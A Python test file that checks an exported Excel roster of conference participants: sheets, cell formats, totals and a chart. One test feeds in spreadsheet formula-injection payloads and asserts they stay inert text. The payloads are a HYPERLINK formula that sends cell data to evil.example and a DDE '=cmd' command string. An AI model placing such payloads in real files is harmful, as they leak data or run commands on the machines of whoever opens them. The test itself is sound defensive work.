"""The roster workbook, reopened with openpyxl and checked cell by cell."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from intake.cli.main import main
from intake.config.settings import Config, load_config
from intake.organizer.desk import Organizer
from mailer.compose.workbook import PEOPLE_HEADER, roster_workbook
from mailer.compose.xlsx_cells import put, sheet_title
from storage.store import Store
from tests.helpers import cst, known_period
from tests.organizer_data import PERIOD, add, person, populate, write_config

AFTER = cst("2023-06-20T08:00:00")
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A2,"点击")', "+1", "-2", "@SUM(A1)"]


@pytest.fixture
def config(tmp_path: Path) -> Config:
    return load_config(write_config(tmp_path))


def workbook_of(config: Config, store: Store) -> tuple[bytes, Workbook]:
    data = Organizer(config, store).digest(known_period(PERIOD, config.notice), AFTER)
    raw = roster_workbook(data)
    return raw, load_workbook(io.BytesIO(raw))


def test_sheets_are_everyone_one_per_hotel_summary_and_problems(config: Config) -> None:
    with Store(config.storage_dir) as store:
        populate(store)
        _raw, wb = workbook_of(config, store)
    assert wb.sheetnames == [
        "全部人员",
        "扬州花园国际酒店",
        "扬州绿地铂领酒店",
        "高仕第酒店",
        "住宿统计",
        "各省汇总",
        "待处理问题",
        "签到表",
    ]
    ws = wb["全部人员"]
    assert [c.value for c in ws[1]] == PEOPLE_HEADER
    assert [c.value for c in ws[2]] == [
        "北京",
        "王喆",
        "男",
        "北京市教育委员会",
        "省级教育行政部门",
        "科长",
        "13900001111",
        "13900001111@example.cn",
        "扬州花园国际酒店",
        datetime(2023, 7, 14, 11, 30),  # a real time: it sorts as one
        "是",
        None,
        None,
    ]
    assert ws.cell(row=2, column=10).number_format == 'm"月"d"日" hh:mm'  # shown as 7月14日 11:30
    assert [c.value for c in ws[4]][:5] == ["北京", "赵强", "男", "北京电子科技职业学院", "学校"]
    # "2023-07-14 下午": the day as a date, what was written beside it
    assert [c.value for c in ws[4]][9:] == [datetime(2023, 7, 14), None, None, "2023-07-14 下午"]
    assert ws.cell(row=4, column=10).number_format == 'm"月"d"日"'
    assert ws.max_row == 1 + 12  # 12 accepted participants, 河南's rejected roster left out
    assert [ws.cell(row=r, column=1).value for r in range(2, 14)].count("天津") == 3
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:M13"
    assert ws.column_dimensions["D"].width >= 22  # 北京电子科技职业学院: ten CJK characters
    for r in range(2, ws.max_row + 1):  # mobiles are text, in text-formatted cells
        cell = ws.cell(row=r, column=7)
        assert cell.data_type == "s" and cell.number_format == "@" and re.fullmatch(r"1\d{10}", cell.value)
    # only the typed-text columns are Text-formatted; 省份, 性别, 单位类别, 酒店, 领队 keep the General format
    formats = [ws.cell(row=2, column=c).number_format for c in range(1, 14)]
    assert formats == [
        "General",
        "@",
        "General",
        "@",
        "General",
        "@",
        "@",
        "@",
        "General",
        'm"月"d"日" hh:mm',
        "General",
        "@",
        "@",
    ]
    hotel = wb["扬州绿地铂领酒店"]
    assert [c.value for c in hotel[1]] == [h for h in PEOPLE_HEADER if h != "酒店"]
    assert [hotel.cell(row=r, column=2).value for r in range(2, hotel.max_row + 1)] == [
        "陈刚",
        "刘洋",
        "黄蕾",
        "杨帆",
    ]
    assert hotel.freeze_panes == "A2" and hotel.auto_filter.ref == "A1:L5"
    assert wb["高仕第酒店"].max_row == 3  # 浙江's two; 上海 sent nothing


def test_summary_sheet_has_one_row_per_province_totals_and_a_native_bar_chart(config: Config) -> None:
    with Store(config.storage_dir) as store:
        populate(store)
        raw, wb = workbook_of(config, store)
    ws = wb["各省汇总"]
    assert [c.value for c in ws[1]][:9] == [
        "省份",
        "状态",
        "版本数",
        "最近收到",
        "省级",
        "地市级",
        "学校",
        "其他",
        "合计",
    ]
    rows = {ws.cell(row=r, column=1).value: [c.value for c in ws[r]] for r in range(2, 9)}
    assert rows["天津"][:9] == ["天津", "已确认", 2, "6月15日 16:20", 1, 0, 2, 0, 3]
    assert rows["河南"][:3] == ["河南", "需修改", 1] and rows["河南"][11] == 1  # one open error
    assert (
        rows["上海"][:3] == ["上海", "未报送", 0] and rows["上海"][10] == "是"
    )  # missing after the deadline
    assert rows["江苏"][10] == "是" and rows["北京"][10] is None  # late / on time
    assert [c.value for c in ws[9]][:9] == ["合计", "已确认 4/7", None, None, 5, 0, 7, 0, 12]
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:R8"
    [chart] = ws._charts
    assert type(chart).__name__ == "BarChart" and chart.grouping == "stacked" and len(chart.series) == 4
    chart_xml = zipfile.ZipFile(io.BytesIO(raw)).read("xl/charts/chart1.xml").decode()
    assert (
        "<barChart>" in chart_xml and '<barDir val="col"' in chart_xml and "'各省汇总'!$A$2:$A$8" in chart_xml
    )
    problems = wb["待处理问题"]
    assert [c.value for c in problems[1]] == ["省份", "类别", "行", "字段", "说明"]
    assert [c.value for c in problems[2]][:4] == ["北京", "提示", None, None]
    assert ["河南", "需修改", 5, "手机"] in [
        [c.value for c in row][:4] for row in problems.iter_rows(min_row=2)
    ]


def test_names_that_look_like_formulas_stay_text(config: Config) -> None:
    with Store(config.storage_dir) as store:
        people = [
            person(name, unit, f"1390000888{i}", leader=i == 0)
            for i, (name, unit) in enumerate(
                zip(HOSTILE, ["=1+1", "+上海市教育委员会", "-学校", "@学院"], strict=True)
            )
        ]
        people[1]["title"] = "=cmd|' /C calc'!A0"
        add(store, "上海", people, received="2023-06-18T10:00", sender="sh@example.cn")
        raw, wb = workbook_of(config, store)
    ws = wb["全部人员"]
    found = {ws.cell(row=r, column=2).value: ws.cell(row=r, column=2) for r in range(2, ws.max_row + 1)}
    for name in HOSTILE:
        cell = found[name]
        assert (
            cell.value == name and cell.data_type == "s" and cell.quotePrefix
        )  # text, shown with a leading '
    units = [ws.cell(row=r, column=4).value for r in range(2, ws.max_row + 1)]
    assert units == ["=1+1", "+上海市教育委员会", "-学校", "@学院"]
    assert (
        ws.cell(row=3, column=6).value == "=cmd|' /C calc'!A0" and ws.cell(row=3, column=6).data_type == "s"
    )
    assert wb["高仕第酒店"].cell(row=2, column=2).value == HOSTILE[0]
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any("<f>" in z.read(n).decode() for n in sheets)  # no formula anywhere


def test_cell_writer_drops_characters_xml_cannot_hold_and_sheet_titles_are_valid() -> None:
    ws = Workbook().active
    assert put(ws["A1"], "王\x00喆\x1b").value == "王喆"
    assert put(ws["A2"], 3).value == 3 and ws["A2"].data_type == "n"
    taken: set[str] = set()
    assert sheet_title("酒店[1]:A/B*C?", taken) == "酒店_1__A_B_C_"
    assert sheet_title("x" * 40, taken) == "x" * 31 and sheet_title("x" * 40, taken) == "x" * 28 + "(2)"


def test_export_command_writes_the_roster_workbook(
    config: Config, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with Store(config.storage_dir) as store:
        populate(store)
    out = tmp_path / "名单.xlsx"
    assert (
        main(
            [
                "export",
                "--config",
                str(config.path),
                "--period",
                PERIOD,
                "--out",
                str(out),
                "--now",
                "2023-06-20T08:00",
            ]
        )
        == 0
    )
    assert "12 participants, 4/7 provinces" in capsys.readouterr().out
    wb = load_workbook(out)
    assert wb["全部人员"].max_row == 13 and wb["全部人员"]["A2"].value == "北京"
